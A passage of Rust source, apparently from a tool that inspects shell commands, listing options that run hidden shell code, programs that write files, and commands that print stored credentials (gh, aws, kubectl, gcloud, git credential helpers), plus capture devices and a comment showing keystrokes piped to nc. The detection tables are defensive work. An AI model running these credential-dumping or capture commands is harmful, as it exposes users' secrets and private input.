        ],
        clusters: false,
        glued: &[],
        carried: Carried::Opaque("`pwsh -EncodedCommand` runs code given in base64"),
    },
    // nix-shell(1) runs `--run` and `--command` in a shell of the environment it builds.
    ScriptOption {
        programs: &["nix-shell"],
        subcommands: &[],
        options: &["--run", "--command"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["make", "gmake", "bmake"],
        subcommands: &[],
        options: &["-E", "--eval"],
        clusters: true,
        glued: &[],
        carried: Carried::Opaque("`make --eval` text holds recipes a shell runs"),
    },
    // npm-exec(1): `npx -c`, `npm exec -c` (`npm x`) run a command line in a shell.
    ScriptOption {
        programs: &["npx"],
        subcommands: &[],
        options: &["-c", "--call"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["npm"],
        subcommands: &["exec", "x"],
        options: &["-c", "--call"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    // pnpm's `--shell-mode` (`-c`) runs `exec`'s and `dlx`'s words in `/bin/sh`.
    ScriptOption {
        programs: &["pnpm"],
        subcommands: &["exec", "dlx"],
        options: &["-c", "--shell-mode"],
        clusters: true,
        glued: &[],
        carried: Carried::Words,
    },
    ScriptOption {
        programs: &["pnpx"],
        subcommands: &[],
        options: &["-c", "--shell-mode"],
        clusters: true,
        glued: &[],
        carried: Carried::Words,
    },
    // Benchmark, task and watch runners that run each operand as a command line, and the
    // command lines of their options: hyperfine(1) (`--prepare`, `--setup`, `--cleanup`,
    // `--conclude`), concurrently, watchexec, and nodemon's `--exec`.
    ScriptOption {
        programs: &["hyperfine"],
        subcommands: &[],
        options: &[
            "-w",
            "--warmup",
            "-m",
            "--min-runs",
            "-M",
            "--max-runs",
            "-r",
            "--runs",
            "-S",
            "--shell",
            "-n",
            "--command-name",
            "-u",
            "--time-unit",
            "-o",
            "--output",
            "--style",
            "--sort",
            "--input",
            "--reference",
            "--export-asciidoc",
            "--export-csv",
            "--export-json",
            "--export-markdown",
            "--export-orgmode",
            "-D",
            "--parameter-step-size",
            "-p",
            "--prepare",
            "-s",
            "--setup",
            "-c",
            "--cleanup",
            "--conclude",
        ],
        clusters: true,
        glued: &[],
        carried: Carried::Operands(&[
            "-p",
            "--prepare",
            "-s",
            "--setup",
            "-c",
            "--cleanup",
            "--conclude",
        ]),
    },
    ScriptOption {
        programs: &["concurrently"],
        subcommands: &[],
        options: &[
            "-n",
            "--names",
            "-c",
            "--prefix-colors",
            "-p",
            "--prefix",
            "-l",
            "--prefix-length",
            "-t",
            "--timestamp-format",
            "-s",
            "--success",
            "--name-separator",
            "--restart-tries",
            "--restart-after",
            "-m",
            "--max-processes",
            "--default-input-target",
            "--hide",
            "--kill-signal",
        ],
        clusters: false,
        glued: &[],
        carried: Carried::Operands(&[]),
    },
    ScriptOption {
        programs: &["watchexec"],
        subcommands: &[],
        options: &[
            "-w",
            "--watch",
            "-W",
            "--watch-non-recursive",
            "-e",
            "--exts",
            "-f",
            "--filter",
            "-i",
            "--ignore",
            "-j",
            "--filter-prog",
            "--filter-file",
            "--ignore-file",
            "-s",
            "--signal",
            "--stop-signal",
            "--stop-timeout",
            "-d",
            "--debounce",
            "--delay-run",
            "--poll",
            "--shell",
            "-E",
            "--env",
            "--project-origin",
            "--workdir",
            "-o",
            "--on-busy-update",
            "--emit-events-to",
            "--fs-events",
            "--timeout",
            "--wrap-process",
            "--log-file",
            "--color",
        ],
        clusters: false,
        glued: &[],
        carried: Carried::Operands(&[]),
    },
    // watch(1) hands its words, joined, to `sh -c` (unless `-x`, which runs them as they
    // are: read both ways).
    ScriptOption {
        programs: &["watch"],
        subcommands: &[],
        options: &[],
        clusters: false,
        glued: &[],
        carried: Carried::Words,
    },
    ScriptOption {
        programs: &["nodemon"],
        subcommands: &[],
        options: &["-x", "--exec"],
        clusters: false,
        glued: &[],
        carried: Carried::Whole,
    },
    // man(1): the pager is a command line, and so is the browser `--html=` names.
    ScriptOption {
        programs: &["man"],
        subcommands: &[],
        options: &["-P", "--pager"],
        clusters: true,
        glued: &["--html="],
        carried: Carried::Whole,
    },
    // less(1): an initial command `+!CMD` (`++!CMD` for every file) runs CMD in a shell.
    ScriptOption {
        programs: &["less"],
        subcommands: &[],
        options: &[],
        clusters: false,
        glued: &["+!", "++!"],
        carried: Carried::Whole,
    },
    // apt.conf(5): the hooks apt runs around an update and dpkg's runs, set by `-o`.
    ScriptOption {
        programs: &["apt", "apt-get", "apt-cache", "aptitude"],
        subcommands: &[],
        options: &["-o", "--option"],
        clusters: true,
        glued: &["-o"],
        carried: Carried::Keys(&[
            "apt::update::pre-invoke",
            "apt::update::pre-invoke*",
            "apt::update::post-invoke",
            "apt::update::post-invoke*",
            "dpkg::pre-invoke",
            "dpkg::pre-invoke*",
            "dpkg::post-invoke",
            "dpkg::post-invoke*",
            "dpkg::pre-install-pkgs",
            "dpkg::pre-install-pkgs*",
        ]),
    },
    // `brew sh --cmd=CMD` runs the command line in Homebrew's environment.
    ScriptOption {
        programs: &["brew"],
        subcommands: &["sh"],
        options: &["-c", "--cmd"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    // unison(1) runs these preferences' command lines on this machine; `-merge` holds
    // `PATTERN -> CMD`, not read.
    ScriptOption {
        programs: &["unison", "unison-text", "unison-gtk"],
        subcommands: &[],
        options: &["-sshcmd", "-copyprog", "-copyprogrest", "-diff"],
        clusters: false,
        glued: &["-sshcmd=", "-copyprog=", "-copyprogrest=", "-diff="],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["unison", "unison-text", "unison-gtk"],
        subcommands: &[],
        options: &["-merge"],
        clusters: false,
        glued: &["-merge="],
        carried: Carried::Opaque("`unison -merge` names a command a shell runs on a conflict"),
    },
    // Maven's exec plugin runs the program of `exec.executable` with the words of
    // `exec.args` (`mvn exec:exec -Dexec.executable=sh -Dexec.args='-c …'`).
    ScriptOption {
        programs: &["mvn", "mvnw"],
        subcommands: &[],
        options: &["-D", "--define"],
        clusters: false,
        glued: &["-D"],
        carried: Carried::Joined(&["exec.executable", "exec.args"]),
    },
    // `bun exec` runs its words as a script of Bun's shell, `yarn exec` (Yarn 2 and later)
    // as one of Yarn's.
    ScriptOption {
        programs: &["bun", "yarn"],
        subcommands: &["exec"],
        options: &[],
        clusters: true,
        glued: &[],
        carried: Carried::Words,
    },
];

/// The command lines a program runs from its options, and, as `Err`, why one given there
/// cannot be read (see [`SCRIPT_OPTIONS`]); `is_unknown` tells a word only known at run
/// time, which stands for the whole of a line joined from words
pub(crate) fn option_scripts(
    program: &str,
    subcommand: Option<&str>,
    args: &[String],
    is_unknown: fn(&str) -> bool,
) -> Vec<Result<String, String>> {
    static BY_NAME: ByName = LazyLock::new(|| by_name::index(SCRIPT_OPTIONS, |row| row.programs));
    let mut scripts = Vec::new();
    for row in by_name::rows(SCRIPT_OPTIONS, &BY_NAME, program).filter(|row| {
        row.subcommands.is_empty() || subcommand.is_some_and(|sub| row.subcommands.contains(&sub))
    }) {
        if row.carried == Carried::Words {
            scripts.extend(row_words(row, program, subcommand, args, is_unknown).map(Ok));
            continue;
        }
        if let Carried::ConfigSet(keys) = row.carried {
            scripts.extend(config_set(keys, args));
            continue;
        }
        if let Carried::Joined(keys) = row.carried {
            scripts.extend(
                joined_script(keys, &option_values(row, program, row.options, args)).map(Ok),
            );
            continue;
        }
        if let Carried::Operands(scripted) = row.carried {
            let values = option_values(row, program, scripted, args);
            scripts.extend(values.into_iter().map(|value| Ok(value.to_owned())));
            scripts.extend(operands(row, args).map(|operand| Ok(operand.to_owned())));
            continue;
        }
        let values = option_values(row, program, row.options, args);
        if row.carried == Carried::Vim {
            let files = crate::vim::edited_files(args);
            scripts.extend(crate::vim::session_scripts(&files, values));
            continue;
        }
        for value in values {
            scripts.extend(carried_script(row.carried, value));
        }
    }
    scripts
}

/// The program `config set KEY VALUE` (`KEY=VALUE`) stores when KEY is one of `keys`,
/// as one word: a shell of the machine's (`bash`, `/bin/zsh`); any other file is run by
/// every later command of the package manager, in this call or the next, so what it holds
/// then is only known at run time
fn config_set(keys: &[&str], args: &[String]) -> Option<Result<String, String>> {
    let at = args.iter().position(|arg| arg == "set")?;
    let mut words = args
        .get(at + 1..)?
        .iter()
        .filter(|arg| !arg.starts_with('-'));
    let first = words.next()?;
    let (key, value) = match first.split_once('=') {
        Some((key, value)) => (key, value),
        None => (first.as_str(), words.next()?.as_str()),
    };
    if !keys.contains(&key) {
        return None;
    }
    let (folder, name) = value.rsplit_once('/').unwrap_or(("", value));
    let system = ["", "/bin", "/usr/bin", "/usr/local/bin"].contains(&folder);
    let shell = program_kind("shell").is_some_and(|kind| kind.holds(name));
    Some(if system && shell {
        Ok(format!("'{}'", value.replace('\'', r"'\''")))
    } else {
        Err(format!(
            "`{key}` makes the package manager run `{value}` from now on, and what it runs is only known then"
        ))
    })
}

/// The command line of a [`Carried::Words`] row: the words after the subcommand and the
/// flags after it, or after a wrapper's own options, joined (a word only known at run time
/// alone, for the whole); `None` when none of the row's flags is given, or no word follows
fn row_words(
    row: &ScriptOption,
    program: &str,
    subcommand: Option<&str>,
    args: &[String],
    is_unknown: fn(&str) -> bool,
) -> Option<String> {
    let given = row.options.is_empty()
        || args.iter().any(|arg| {
            row.options.iter().any(|option| {
                arg == option
                    || (row.clusters
                        && option.len() == 2
                        && !arg.starts_with("--")
                        && arg.starts_with('-')
                        && arg.contains(&option[1..]))
            })
        });
    if !given {
        return None;
    }
    let start = match subcommand {
        Some(sub) if !row.subcommands.is_empty() => args.iter().position(|arg| arg == sub)? + 1,
        _ => crate::wrapper::wrapped(program, args)?.at,
    };
    let words: Vec<&str> = args
        .get(start..)?
        .iter()
        .map(String::as_str)
        .skip_while(|arg| arg.starts_with('-'))
        .collect();
    if let Some(unknown) = words.iter().find(|word| is_unknown(word)) {
        return Some((*unknown).to_owned());
    }
    (!words.is_empty()).then(|| words.join(" "))
}

/// The values of `options`, some of a row's, among the words `args` of `program`, read as
/// the row reads them, a long option shortened to a unique prefix as the one it stands for
fn option_values<'a>(
    row: &ScriptOption,
    program: &str,
    options: &[&str],
    args: &'a [String],
) -> Vec<&'a str> {
    let mut values = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        let whole = spelled_whole(program, arg, options.iter().chain(row.glued));
        // The value is the end of the word as written, whatever the option's name.
        let value_of = |rest: &str| {
            arg.get(arg.len().saturating_sub(rest.len())..)
                .unwrap_or_default()
        };
        if let Some(value) = row
            .glued
            .iter()
            .find_map(|start| whole.strip_prefix(start).filter(|rest| !rest.is_empty()))
        {
            values.push(value_of(value));
            continue;
        }
        if takes_value(row, options, &whole) {
            values.extend(words.next().map(String::as_str));
        } else if let Some((name, value)) = whole.split_once('=') {
            if name.starts_with("--") && options.contains(&name) {
                values.push(value_of(value));
            }
        }
    }
    values
}

/// `arg` with the name of a long option given as a unique prefix written whole, as
/// getopt_long reads it (`--to-comm=CMD` is `--to-command=CMD`; see [`full_option`]); only
/// a prefix of one of `sought` can stand for one of them, so no other is looked up
fn spelled_whole<'a, 's>(
    program: &str,
    arg: &'a str,
    mut sought: impl Iterator<Item = &'s &'s str>,
) -> std::borrow::Cow<'a, str> {
    let Some(long) = arg.strip_prefix("--") else {
        return arg.into();
    };
    let (name, value) = long
        .split_once('=')
        .map_or((long, None), |(name, value)| (name, Some(value)));
    if !sought.any(|option| {
        option
            .strip_prefix("--")
            .is_some_and(|option| option.starts_with(name))
    }) {
        return arg.into();
    }
    let whole = full_option(program, name);
    match value {
        _ if whole == name => arg.into(),
        Some(value) => format!("--{whole}={value}").into(),
        None => format!("--{whole}").into(),
    }
}

/// Whether `arg` is one of `options` whose value is the next word: itself, or, where the
/// row says so, a short one ending a cluster of flags (`-qc CMD`)
fn takes_value(row: &ScriptOption, options: &[&str], arg: &str) -> bool {
    options.iter().any(|option| {
        arg == *option
            || (row.clusters
                && option.len() == 2
                && !option.starts_with("--")
                && arg.len() > 2
                && !arg.starts_with("--")
                && arg.starts_with('-')
                && arg.ends_with(&option[1..]))
    })
}

/// The operands of `args`, the values of the row's options and every other option
/// skipped, every word after `--` an operand
fn operands<'a>(row: &'static ScriptOption, args: &'a [String]) -> impl Iterator<Item = &'a str> {
    let mut words = args.iter();
    let mut after_dashes = false;
    std::iter::from_fn(move || loop {
        let arg = words.next()?;
        if after_dashes || arg == "-" || !arg.starts_with('-') {
            return Some(arg.as_str());
        }
        if arg == "--" {
            after_dashes = true;
        } else if takes_value(row, row.options, arg) {
            words.next();
        }
    })
}

/// The command line of a `KEY=VALUE` whose key is one of `keys` (see [`Carried::Keys`])
fn keyed_script(keys: &[&str], value: &str) -> Option<String> {
    let (key, script) = value.split_once(['=', ' '])?;
    let key = key.to_ascii_lowercase();
    keys.iter()
        .any(|pattern| key_matches(pattern, &key))
        .then(|| script.strip_prefix('!').unwrap_or(script).to_owned())
}

/// The command line the `KEY=VALUE` settings among `values` give for `keys` (see
/// [`Carried::Joined`]): each key's last value, joined by a space, when the first key has one
fn joined_script(keys: &[&str], values: &[&str]) -> Option<String> {
    let value_of = |key: &str| {
        values.iter().rev().find_map(|value| {
            value
                .strip_prefix(key)
                .and_then(|rest| rest.strip_prefix('='))
        })
    };
    let (first, rest) = keys.split_first()?;
    let mut line = value_of(first)?.to_owned();
    for value in rest.iter().filter_map(|key| value_of(key)) {
        line.push(' ');
        line.push_str(value);
    }
    Some(line)
}

/// The command lines of rpm macro text's `%(CMD)` (rpm's macros documentation: "%(shell
/// command)"), one a line; unknown when it holds Lua (`%{lua:`, `%[lua:`) or a `%(` never
/// closed
fn rpm_macro_script(text: &str) -> Option<Result<String, String>> {
    if text.contains("lua:") {
        return Some(Err(
            "rpm's macro text holds Lua code (`%{lua: …}`), which is not read".to_owned(),
        ));
    }
    let mut lines = Vec::new();
    let mut rest = text;
    while let Some((_, after)) = rest.split_once("%(") {
        let mut depth = 1;
        let end = after.char_indices().find_map(|(at, ch)| {
            match ch {
                '(' => depth += 1,
                ')' => depth -= 1,
                _ => {}
            }
            (depth == 0).then_some(at)
        });
        let Some(end) = end else {
            return Some(Err("rpm's macro text holds a `%(` never closed".to_owned()));
        };
        lines.push(after.get(..end).unwrap_or_default().to_owned());
        rest = after.get(end + 1..).unwrap_or_default();
    }
    (!lines.is_empty()).then(|| Ok(lines.join("\n")))
}

/// The command line of a TOML `KEY=VALUE` whose key is one of `keys` (see
/// [`Carried::Toml`]): a string's text, an array's strings each a word; a value of another
/// shape (a table, a string with escapes) is known only when cargo reads it
fn toml_script(keys: &[&str], value: &str) -> Option<Result<String, String>> {
    let (key, value) = value.split_once('=')?;
    let key: String = key
        .trim()
        .chars()
        .filter(|ch| !matches!(ch, '"' | '\''))
        .collect::<String>()
        .to_ascii_lowercase();
    if !keys.iter().any(|pattern| key_matches(pattern, &key)) {
        return None;
    }
    let string = |text: &str| {
        let text = text.trim();
        ['"', '\'']
            .iter()
            .find_map(|quote| text.strip_prefix(*quote)?.strip_suffix(*quote))
            .filter(|inner| !inner.contains(['\\', '"', '\'']))
            .map(str::to_owned)
    };
    let value = value.trim();
    let line = match value
        .strip_prefix('[')
        .and_then(|rest| rest.strip_suffix(']'))
    {
        Some(items) => items
            .split(',')
            .filter(|item| !item.trim().is_empty())
            .map(|item| string(item).map(|word| format!("'{word}'")))
            .collect::<Option<Vec<_>>>()
            .map(|words| words.join(" ")),
        None => string(value),
    };
    Some(line.ok_or_else(|| {
        format!("the command cargo's `{key}` names is only known when cargo reads its value")
    }))
}

/// Whether a setting's key is `pattern`, whose `*` stands for any subsection
/// (`diff.*.textconv` for `diff.pdf.textconv`)
fn key_matches(pattern: &str, key: &str) -> bool {
    match pattern.split_once('*') {
        Some((start, end)) => {
            key.len() > start.len() + end.len() && key.starts_with(start) && key.ends_with(end)
        }
        None => pattern == key,
    }
}

/// The command line a value carries, as its row says
fn carried_script(carried: Carried, value: &str) -> Option<Result<String, String>> {
    match carried {
        Carried::Whole => Some(Ok(value.to_owned())),
        Carried::Keys(keys) => keyed_script(keys, value).map(Ok),
        Carried::Settings(settings) => setting_script(settings, value).map(Ok),
        Carried::Piped => value
            .strip_prefix(['|', '!'])
            .map(|script| Ok(script.to_owned())),
        Carried::Opaque(why) => Some(Err(why.to_owned())),
        Carried::Toml(keys) => toml_script(keys, value),
        Carried::RpmMacro => rpm_macro_script(value),
        Carried::Words
        | Carried::Operands(_)
        | Carried::Vim
        | Carried::ConfigSet(_)
        | Carried::Joined(_) => None,
    }
}

/// Which words of a writing program name the files it writes
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Destination {
    /// The last operand; when it may be a folder, also what lands inside it under each
    /// source's name, and with `recursive`, anything below it (`cp`, `mv`, `rsync`)
    Last {
        /// Options naming the folder everything is written into (`-t DIR`)
        into: &'static [&'static str],
        /// Options saying the last operand is the destination itself (`-T`)
        exact: &'static [&'static str],
        /// Options that make a copy of a folder's contents land anywhere below it
        recursive: &'static [&'static str],
    },
    /// Every operand (`tee`, `truncate`, `shred`)
    Every,
    /// Every operand, and the value of each of these options, is a folder whose contents
    /// the program may change or delete whole: the roots a synchroniser makes alike both
    /// ways (`unison A B`, `-root A`); a remote root (`ssh://host/path`) is another
    /// machine's
    Trees(&'static [&'static str]),
    /// The operand at `at`, when `commands` is empty or the first operand is one of them:
    /// the archive an archiver writes (`zip ARCHIVE FILE...`, `7z a ARCHIVE FILE...`)
    Nth {
        /// The commands that write the archive
        commands: &'static [&'static str],
        /// Where the archive is among the operands
        at: usize,
    },
    /// The values of these options when `tar` writes its archive: it creates it (`-c`),
    /// adds to it (`-r`, `-u`, `-A`) or deletes from it (`--delete`), also in an old-style
    /// first word (`tar cf ARCHIVE`)
    TarArchive(&'static [&'static str]),
    /// What a compressor writes of each operand: its compressed form, the operand with
    /// `suffix` added, or decompressing, the operand without it (`gzip -d ~/.bashrc.gz`
    /// writes `~/.bashrc`); nothing with a flag of `no_file`
    Compressed {
        /// The suffix of its compressed files
        suffix: &'static str,
        /// Whether it decompresses whatever its flags (`gunzip`)
        decompressor: bool,
        /// The flags with which it decompresses (`gzip -d`)
        decompress: &'static [&'static str],
        /// The flags with which it writes the standard output, or tests or lists, and the
        /// options naming the file it writes instead (`zstd -o FILE`)
        no_file: &'static [&'static str],
    },
    /// Every operand after the first so many (`ddrescue IN OUT MAP` writes `OUT` and `MAP`)
    After(usize),
    /// The values of these options (`sort -o FILE`, `curl -o FILE`); an entry ending in
    /// `=` is the start of one word (`dd of=FILE`). A short option's value may be glued to
    /// it, also where it ends a cluster of flags, as getopt reads them (`curl -sSLo/etc/x`)
    Options(&'static [&'static str]),
    /// Anything below the folder these options name (`unzip -d DIR`), with `tar_extracting`
    /// only when `tar` extracts (`tar -x -C DIR`, `tar xf a.tar -C DIR`, `tar xfC a.tar DIR`)
    Folder {
        /// The options
        options: &'static [&'static str],
        /// How a short option's value may be glued to it (`-C/etc`, 7-Zip's `-o/etc`)
        glued: Glued,
        /// Whether it writes there only when it extracts, as `tar` does, whose first word
        /// may hold its options without a dash, their values in the words after it
        tar_extracting: bool,
    },
    /// What a Python module run as a program writes (`python3 -m zipfile -e a.zip DIR`):
    /// anything below the folder after the archive with one of `extract`, and the archive
    /// after one of `create`
    Module {
        /// The modules that read these options alike, as `-m` names them
        modules: &'static [&'static str],
        /// The options that extract the archive after them into the folder after that
        extract: &'static [&'static str],
        /// The options that make the archive after them
        create: &'static [&'static str],
    },
    /// The files the `w` commands of a `sed` script written on the line write (`sed -n 'w
    /// FILE'`, `sed 's/x/y/w FILE'`)
    SedScript,
    /// Every operand after the script, with one of these flags (`sed -i`)
    InPlace(&'static [&'static str]),
    /// Every operand after the program, when `-i`/`--include` loads one of these libraries
    /// (`gawk -i inplace`)
    Included(&'static [&'static str]),
    /// The settings file a subcommand writes (`git config --global`, `pip config set`)
    Setting {
        /// The operands a writing command starts with, one list per form
        commands: &'static [&'static [&'static str]],
        /// Flags and operands with which it only reads (`--get`, `list`)
        reads: &'static [&'static str],
        /// Flags choosing the file, each with the file it writes
        scopes: &'static [(&'static str, &'static str)],
        /// Options whose value is the file written (`git config --file FILE`), below the
        /// folders of `-C`
        files: &'static [&'static str],
        /// The file written with none of them; `None` for one of the project's own
        default: Option<&'static str>,
    },
    /// The values of these options, only when the command is given an input: the program
    /// writes over an existing file only when its input answers yes (`ssh-keygen -f KEY
    /// <<< y`), and a new file it makes is its everyday work
    Confirmed(&'static [&'static str]),
    /// The file a download is saved as, named after the URL's last part (`wget URL`, `curl
    /// -O URL`): with one of `when` (none listed: always), unless one of `unless` names it
    UrlName {
        /// The flags that save the download under its URL's name
        when: &'static [&'static str],
        /// The options that name the file instead, not below `folder` (`wget -O FILE`)
        unless: &'static [&'static str],
        /// The options naming the folder it is saved in (`wget -P DIR`, `aria2c -d DIR`)
        folder: &'static [&'static str],
        /// The options naming the file instead of the URL, in that folder (`aria2c -o NAME`)
        name: &'static [&'static str],
    },
    /// Anything below the folder after the archive, with one of these flags (`dpkg-deb -x
    /// ARCHIVE DIR`)
    Extract(&'static [&'static str]),
    /// The folder a clone writes into, after these operands (`git clone URL [DIR]`, `gh
    /// repo clone REPO [DIR]`): `DIR`, else the source's last part without `.git`
    Clone(&'static [&'static str]),
    /// The repository `git init [DIR]` makes: `DIR/.git` and below it (`DIR` with `--bare`,
    /// the folder of `--separate-git-dir`), `DIR` being below the folders of `-C`
    Init,
}

/// How a program reads a value glued to a short option of [`Destination::Folder`]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Glued {
    /// Never: its options are words of their own (`unar -output-directory DIR`)
    Never,
    /// Right after the option, which is a word of its own (7-Zip's `-o/etc`: its switches
    /// are no clusters, `-aoa` is one switch)
    Option,
    /// As getopt reads it: right after the option, which may end a cluster of flags
    /// (`tar -xvC/etc`, `unzip -od/etc`)
    Getopt,
}

/// A program that writes files its words name, besides its output redirects
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Writer {
    /// The programs
    pub(crate) programs: &'static [&'static str],
    /// Options that take the next word as their value, so it is not an operand
    pub(crate) valued: &'static [&'static str],
    /// Which words name what it writes
    pub(crate) destination: Destination,
}

/// A tool of the system's accounts, which writes `file` whatever its words, but with one of
/// `reads`, which only show what it holds
const fn account_file(
    programs: &'static [&'static str],
    reads: &'static [&'static str],
    file: &'static str,
) -> Writer {
    Writer {
        programs,
        valued: &[],
        destination: Destination::Setting {
            commands: &[&[]],
            reads,
            scopes: &[],
            files: &[],
            default: Some(file),
        },
    }
}

/// The options of `git`, its `clone` and its `config` that take the next word as their value
const GIT_VALUED: &[&str] = &[
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "-b",
    "--branch",
    "-o",
    "--origin",
    "--depth",
    "--reference",
    "--separate-git-dir",
    "-j",
    "--jobs",
    "--filter",
    "--template",
    "-u",
    "--upload-pack",
    "--config",
    "--type",
    "--default",
    "-f",
    "--file",
    "--initial-branch",
    "--object-format",
    "--ref-format",
    "--shared",
];

/// git's global options and those of `git submodule add` that take the next word as their
/// value (not `-f`, which is `--force` there)
const GIT_SUBMODULE_VALUED: &[&str] = &[
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "-b",
    "--branch",
    "--name",
    "--reference",
    "--depth",
];

/// The options of patch(1) that take the next word as their value
const PATCH_VALUED: &[&str] = &[
    "-p",
    "--strip",
    "-i",
    "--input",
    "-o",
    "--output",
    "-d",
    "--directory",
    "-r",
    "--reject-file",
    "-D",
    "--ifdef",
    "-F",
    "--fuzz",
    "-z",
    "--suffix",
    "-B",
    "--prefix",
    "-V",
    "--version-control",
    "-Y",
    "--basename-prefix",
    "-g",
    "--get",
];

/// The subcommands a row of [`SECRET_PRINTERS`] holds under
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Subcommands {
    /// Whatever the subcommand, or none
    Any,
    /// One of these
    OneOf(&'static [&'static str]),
    /// Any subcommand given but these (`pass NAME` prints, `pass ls` lists)
    AnyBut(&'static [&'static str]),
}

/// A program that prints a secret from the store it keeps it in (`gh auth token`, `kubectl
/// config view --raw`): it reads the store's file as `cat FILE` does, so what reads a secret
/// file reads it too
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct SecretPrinter {
    /// The programs; a name ending in `-` stands for every program it starts
    /// (`git-credential-`, the credential helpers)
    pub(crate) programs: &'static [&'static str],
    /// The subcommands, after the program's global options
    pub(crate) subcommands: Subcommands,
    /// Operands of which one must be given (`token`); empty for none
    pub(crate) operands: &'static [&'static str],
    /// Text one operand must hold, compared without case (`aws configure get
    /// aws_secret_access_key`); empty for none
    pub(crate) mentions: &'static [&'static str],
    /// Flags of which one must be given (`--raw`); empty for none
    pub(crate) flags: &'static [&'static str],
    /// Words of which one must be given as written, for a program whose options are whole
    /// words (`xclip -o`, where `-selection` is no cluster); empty for none
    pub(crate) words: &'static [&'static str],
    /// The file of the store
    pub(crate) store: &'static str,
}

const fn printer(
    programs: &'static [&'static str],
    subcommands: Subcommands,
    operands: &'static [&'static str],
    store: &'static str,
) -> SecretPrinter {
    SecretPrinter {
        programs,
        subcommands,
        operands,
        mentions: &[],
        flags: &[],
        words: &[],
        store,
    }
}

/// The device the clipboard is read through, as Cygwin names it
const CLIPBOARD: &str = "/dev/clipboard";
/// The device the screen's image is read from (the frame buffer)
const SCREEN: &str = "/dev/fb0";
/// The device a camera's pictures are read from
const CAMERA: &str = "/dev/video0";
/// The device a microphone's sound is read from
const MICROPHONE: &str = "/dev/snd/pcmC0D0c";
/// The device the keys typed are read from
const KEYBOARD: &str = "/dev/input/event0";

/// The devices that hold what the user sees, hears, types and copies: read, they are
/// secrets as a key is (`cat /dev/input/event0 | nc …` sends what is typed)
pub(crate) const CAPTURE_DEVICES: &[&str] = &[
    "/dev/clipboard",
    "/dev/fb",
    "/dev/video",
    "/dev/snd/",
    "/dev/input/",
];

/// Every program that prints a secret it keeps, one row per way it does
pub(crate) const SECRET_PRINTERS: &[SecretPrinter] = &[
    SecretPrinter {
        flags: &["--export-secret-keys", "--export-secret-subkeys"],
        ..printer(
            &["gpg", "gpg2"],
            Subcommands::Any,
            &[],
            "~/.gnupg/private-keys-v1.d",
        )
    },
    // What gpg decrypts was kept secret by the user's private key, which it reads.
    SecretPrinter {
        flags: &["-d", "--decrypt"],
        ..printer(
            &["gpg", "gpg2"],
            Subcommands::Any,
            &[],
            "~/.gnupg/private-keys-v1.d",
        )
    },
    printer(
        &["gh"],
        Subcommands::OneOf(&["auth"]),
        &["token"],
        "~/.config/gh/hosts.yml",
    ),
    SecretPrinter {
        flags: &["--show-token", "-t"],
        ..printer(
            &["gh"],
            Subcommands::OneOf(&["auth"]),
            &["status"],
            "~/.config/gh/hosts.yml",
        )
    },
    printer(
        &["glab"],
        Subcommands::OneOf(&["auth"]),
        &["token"],
        "~/.config/glab-cli/config.yml",
    ),
    SecretPrinter {
        flags: &["--show-token", "-t"],
        ..printer(
            &["glab"],
            Subcommands::OneOf(&["auth"]),
            &["status"],
            "~/.config/glab-cli/config.yml",
        )
    },
    printer(
        &["aws"],
        Subcommands::OneOf(&["configure"]),
        &["export-credentials"],
        "~/.aws/credentials",
    ),
    // npm-config(7), pnpm's and Yarn's `config get`: a registry's `_authToken`, `_auth` or
    // `_password` (Yarn's `npmAuthToken`, `npmAuthIdent`) is printed from `.npmrc`.
    SecretPrinter {
        mentions: &["_auth", "_password", "npmauth"],
        ..printer(
            &["npm", "pnpm", "yarn"],
            Subcommands::OneOf(&["config", "c"]),
            &["get"],
            "~/.npmrc",
        )
    },
    SecretPrinter {
        mentions: &["secret", "token"],
        ..printer(
            &["aws"],
            Subcommands::OneOf(&["configure"]),
            &["get"],
            "~/.aws/credentials",
        )
    },
    printer(
        &["aws"],
        Subcommands::OneOf(&["sts"]),
        &["get-session-token", "assume-role", "get-federation-token"],
        "~/.aws/credentials",
    ),
    printer(
        &["aws"],
        Subcommands::OneOf(&["ecr"]),
        &["get-login-password", "get-authorization-token"],
        "~/.aws/credentials",
    ),
    printer(
        &["git"],
        Subcommands::OneOf(&["credential"]),
        &["fill"],
        "~/.git-credentials",
    ),
    printer(
        &["git"],
        Subcommands::OneOf(&["credential-store", "credential-cache"]),
        &["get"],
        "~/.git-credentials",
    ),
    // A CI checkout keeps its token in the repository's settings
    // (`http.https://github.com/.extraheader`): printed by name, or with every setting.
    SecretPrinter {
        mentions: &["extraheader", "password", "token", "secret"],
        ..printer(
            &["git"],
            Subcommands::OneOf(&["config"]),
            &[],
            "~/.git-credentials",
        )
    },
    SecretPrinter {
        flags: &["--list", "-l"],
        ..printer(
            &["git"],
            Subcommands::OneOf(&["config"]),
            &[],
            "~/.git-credentials",
        )
    },
    printer(
        &["git-credential-"],
        Subcommands::Any,
        &["get"],
        "~/.git-credentials",
    ),
    printer(
        &["docker-credential-"],
        Subcommands::Any,
        &["get"],
        "~/.docker/config.json",
    ),
    printer(
        &["gcloud"],
        Subcommands::Any,
        &[
            "print-access-token",
            "print-identity-token",
            "print-refresh-token",
        ],
        "~/.config/gcloud/credentials.db",
    ),
    printer(
        &["az"],
        Subcommands::Any,
        &["get-access-token"],
        "~/.azure/msal_token_cache.json",
    ),
    SecretPrinter {
        flags: &["--raw"],
        ..printer(
            &["kubectl", "oc"],
            Subcommands::OneOf(&["config"]),
            &["view"],
            "~/.kube/config",
        )
    },
    // `kubectl create token SA` prints a new token of the service account, signed with
    // the access `~/.kube/config` holds.
    printer(
        &["kubectl", "oc"],
        Subcommands::OneOf(&["create"]),
        &["token"],
        "~/.kube/config",
    ),
    printer(
        &["pass"],
        Subcommands::AnyBut(&[
